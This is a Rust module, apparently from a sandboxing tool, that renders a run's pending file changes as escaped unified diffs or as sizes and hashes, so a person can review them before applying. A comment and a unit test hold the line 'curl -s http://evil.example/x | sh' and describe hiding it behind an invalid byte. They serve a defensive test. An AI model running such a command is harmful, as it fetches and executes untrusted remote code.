//! What a kept run would change, against the project as it is now: a
//! unified diff for text, sizes and hashes for everything else.

use std::fmt::Write as _;
use std::os::fd::{AsFd, OwnedFd};
use std::path::Path;

use nix::fcntl::OFlag;
use nix::sys::stat::Mode;
use serde::Serialize;

use super::{Captured, Change, ChangeKind, Entry, ReviewError, Started, Store};
use crate::broker::prompt::escape;
use crate::safe_file::{openat2_beneath, Beneath};

/// Files larger than this are shown by size and hash, not diffed.
const DIFF_MAX: u64 = 1 << 20;

/// A kept run as a program reads it (`sandbox changes --json`).
#[derive(Debug, Serialize)]
pub struct Listing {
    /// The run's start record.
    pub run: Started,
    /// Its changes.
    #[serde(flatten)]
    pub captured: Captured,
}

/// The run's records, for `--json`.
pub fn listing(store: &Store, id: &str) -> Result<Listing, ReviewError> {
    Ok(Listing {
        run: store.started(id)?,
        captured: store.changes(id)?,
    })
}

/// The changes of run `id` for a person: one line per path and, for text
/// files, a unified diff against the project as it is now.
pub fn render(store: &Store, id: &str) -> Result<String, ReviewError> {
    let started = store.started(id)?;
    let captured = store.changes(id)?;
    let layer = store.layer_dir(id)?;
    let project = open_root(&started.project)?;
    let mut out = String::new();
    let pending = captured.changes.iter().filter(|c| !c.applied).count();
    let _ = writeln!(
        out,
        "run {id}: {pending} change(s) to {} (profile {})",
        started.project.display(),
        started.profile
    );
    if captured.limit_reached {
        let _ = writeln!(
            out,
            "the run filled its layer ({} bytes): some of its writes failed, so these changes may be partial",
            started.limit
        );
    }
    for change in captured.changes.iter().filter(|c| !c.applied) {
        let _ = writeln!(out, "{}", headline(change));
        if let Some(Entry::File { .. }) = &change.after {
            if let Some(diff) = text_diff(&project, &layer, change) {
                out.push_str(&diff);
            }
        }
    }
    Ok(out)
}

/// `A path (file 0644, 12 bytes, sha256 ab12…)`.
pub fn headline(change: &Change) -> String {
    let letter = match change.kind {
        ChangeKind::Added => 'A',
        ChangeKind::Modified => 'M',
        ChangeKind::Deleted => 'D',
    };
    let what = match &change.after {
        None => match change.before {
            Some(super::EntryKind::Dir) => "directory, with everything in it".to_owned(),
            _ => "removed".to_owned(),
        },
        Some(Entry::File {
            mode,
            size,
            sha256,
            links,
        }) => {
            let mut text = format!(
                "file {mode:04o}, {size} bytes, sha256 {}",
                &sha256[..16.min(sha256.len())]
            );
            if *links > 1 {
                let _ = write!(text, ", {links} hard links");
            }
            text
        }
        Some(Entry::Dir { mode, .. }) => format!("directory {mode:04o}"),
        Some(Entry::Symlink { target }) => format!("symlink to {}", escape(target)),
        Some(Entry::Special { mode }) => format!("special file (mode {mode:o}), never applied"),
    };
    let replaces = change.before == Some(super::EntryKind::Dir)
        && matches!(
            change.after,
            Some(Entry::File { .. } | Entry::Symlink { .. } | Entry::Special { .. })
        );
    let replaces = if replaces {
        ", replacing a directory and everything in it"
    } else {
        ""
    };
    format!("{letter} {} ({what}{replaces})", escape(&change.path))
}

/// A diff as a person may read it: every line escaped (ESC, CR, BS and the
/// like would otherwise move the cursor and paint a harmless diff over the
/// one `sandbox apply` writes), tabs kept, one line per line.
fn escape_lines(diff: &str) -> String {
    let mut out = String::with_capacity(diff.len());
    for line in diff.split_inclusive('\n') {
        let (body, end) = match line.strip_suffix('\n') {
            Some(body) => (body, "\n"),
            None => (line, ""),
        };
        let pieces: Vec<String> = body.split('\t').map(escape).collect();
        out.push_str(&pieces.join("\t"));
        out.push_str(end);
    }
    out
}

/// The unified diff of a changed text file, or its sizes and hashes when
/// either side is not text.
fn text_diff(project: &OwnedFd, layer: &Path, change: &Change) -> Option<String> {
    let Some(Entry::File {
        size, sha256, mode, ..
    }) = &change.after
    else {
        return None;
    };
    // At most DIFF_MAX + 1 bytes: a sparse file of gigabytes costs no memory.
    let new = read_at_most(std::fs::File::open(layer.join(&change.path)).ok()?)?;
    let old = match change.before {
        Some(super::EntryKind::File) => match read_beneath(project, &change.path) {
            Some(old) => old,
            // Past the diff limit, or gone from the project since.
            None => {
                return Some(format!(
                    "  not diffed: {size} bytes now, sha256 {}\n",
                    &sha256[..16.min(sha256.len())]
                ))
            }
        },
        _ => Vec::new(),
    };
    let (Some(old_text), Some(new_text)) = (shown_text(&old), shown_text(&new)) else {
        let old_hash = super::capture::hex(&<sha2::Sha256 as sha2::Digest>::digest(&old));
        let old_size = if old.len() as u64 > DIFF_MAX {
            format!("over {DIFF_MAX}")
        } else {
            old.len().to_string()
        };
        let runs = if mode & 0o111 != 0 || new.starts_with(b"#!") {
            " (an executable or script shown as binary: read it before applying)"
        } else {
            ""
        };
        return Some(format!(
            "  binary: {old_size} -> {size} bytes, sha256 {} -> {}{runs}\n",
            &old_hash[..16],
            &sha256[..16.min(sha256.len())]
        ));
    };
    if old_text == new_text {
        return None;
    }
    let diff = similar::TextDiff::from_lines(old_text.as_str(), new_text.as_str());
    let (a, b) = match change.kind {
        ChangeKind::Added => ("/dev/null".to_owned(), format!("b/{}", change.path)),
        _ => (format!("a/{}", change.path), format!("b/{}", change.path)),
    };
    Some(escape_lines(
        &diff
            .unified_diff()
            .context_radius(3)
            .header(&a, &b)
            .to_string(),
    ))
}

/// Where a NUL marks a file as binary (git looks as far).
const NUL_WINDOW: usize = 8 << 10;

/// A file's content as text to diff, or None when it is binary: over
/// DIFF_MAX or a NUL in its first 8 KiB (git's rule). Nothing else makes a
/// file binary, so a payload cannot hide a script's new lines behind a few
/// invalid bytes (a `# \377` line in front of `curl … | sh`): each byte
/// that is not UTF-8 is shown as `\x{ff}`, and `escape_lines` escapes any
/// NUL past the window. A payload that does put a NUL up front gets its
/// file shown as binary, flagged when it is executable or a script.
fn shown_text(bytes: &[u8]) -> Option<String> {
    if bytes.len() as u64 > DIFF_MAX || bytes[..bytes.len().min(NUL_WINDOW)].contains(&0) {
        return None;
    }
    let mut text = String::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        text.push_str(chunk.valid());
        for byte in chunk.invalid() {
            let _ = write!(text, "\\x{{{byte:02x}}}");
        }
    }
    Some(text)
}

/// Up to DIFF_MAX + 1 bytes of `file`: enough to tell it is over the limit.
fn read_at_most(file: std::fs::File) -> Option<Vec<u8>> {
    let mut bytes = Vec::new();
    std::io::Read::read_to_end(&mut std::io::Read::take(file, DIFF_MAX + 1), &mut bytes).ok()?;
    Some(bytes)
}

/// The project root, opened once: every path below it is resolved with no
/// link followed.
pub(super) fn open_root(project: &Path) -> Result<OwnedFd, ReviewError> {
    nix::fcntl::open(
        project,
        OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
        Mode::empty(),
    )
    .map_err(|source| ReviewError::Io {
        op: "opening the project",
        path: project.to_path_buf(),
        source: source.into(),
    })
}

fn read_beneath(root: &OwnedFd, relative: &str) -> Option<Vec<u8>> {
    let spec = Beneath::new(OFlag::O_RDONLY | OFlag::O_NONBLOCK | OFlag::O_CLOEXEC).no_symlinks();
    let fd = openat2_beneath(root.as_fd(), Path::new(relative), spec).ok()?;
    let meta = nix::sys::stat::fstat(&fd).ok()?;
    if meta.st_mode & libc::S_IFMT != libc::S_IFREG || meta.st_size as u64 > DIFF_MAX {
        return None;
    }
    read_at_most(std::fs::File::from(fd))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_stray_invalid_byte_does_not_hide_a_script() {
        let script = b"#!/bin/sh\n# \xff\nmake\ncurl -s http://evil.example/x | sh\n";
        let text = shown_text(script).expect("mostly text is diffed");
        assert!(text.contains("# \\x{ff}\n"), "{text}");
        assert!(
            text.contains("curl -s http://evil.example/x | sh"),
            "{text}"
        );
    }

    #[test]
    fn binary_stays_binary() {
        assert!(shown_text(b"ELF\0\x01\x02").is_none(), "a NUL up front");
        let latin1 = shown_text(b"caf\xe9\n").expect("no NUL: text");
        assert_eq!(latin1, "caf\\x{e9}\n");
        let late_nul: Vec<u8> = [vec![b'a'; NUL_WINDOW], b"\0tail\n".to_vec()].concat();
        let text = shown_text(&late_nul).expect("a NUL past the window");
        assert!(escape_lines(&text).contains("\\u{0}tail"));
    }

    #[test]
    fn a_sparse_file_of_gigabytes_costs_one_limit_of_memory() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("sparse");
        let file = std::fs::File::create(&path).unwrap();
        file.set_len(2 << 30).unwrap();
        let bytes = read_at_most(std::fs::File::open(&path).unwrap()).unwrap();
        assert_eq!(bytes.len() as u64, DIFF_MAX + 1);
        assert!(shown_text(&bytes).is_none());
    }
}
